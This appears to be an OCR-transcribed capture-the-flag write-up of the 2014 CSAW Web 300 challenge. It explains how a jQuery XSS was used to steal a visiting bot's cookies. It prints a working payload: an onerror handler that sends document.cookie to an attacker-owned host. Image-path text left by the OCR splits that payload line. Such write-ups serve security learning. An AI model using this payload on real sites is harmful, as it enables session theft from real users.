2014 CSAW Qualifying CTF - Web 300

Written by: Justin G.

When you visit the IP address you are presented with this website.

Before any hints were given, I figured that the "bot" will go and visit any link sent to it from the website. I decided to test this so I sent it a link to a website that I own and looked at the logs. I was able to confirm that the bot visitedmy site, and it didn't care about what file type you sent it. Now we have to figure out what we're after and how we're going to get it.

On this challenge the goal was to grab the cookie(s), they eventually gave a hint, now how do we do it. My first thought was to do some XSS (Cross Site Scripting). Since the bot acts like a user we would need it to visit a maliciously crafted link. After a quick search I found this site http://ma.la/jquery_xss/. Screenshot bellow, if you don't trust me.

Their example link looks like this: http://ma.la/jquery_xss/#<img src=/ onerror=alert(1)>
When this link is clicked it reloads the page and an alert pops up with 1 on it.

Now we have to craft a link using this method to send to the bot, at this point I had no idea if this was going to work. This is the link I crafted:<img src=/ onerror="window.location ='http://xxx.xxx/300Save.php?' + document.cookie">
Let me explain what this link does. When the bot visits the link it will try to call an image that is not there and will then run the JavaScript in the onerror action. The bot will be redirected to a website that I own andwill send the document.cookie to the URL I specified.

To get the key I now just have to look at the logs of my webserver.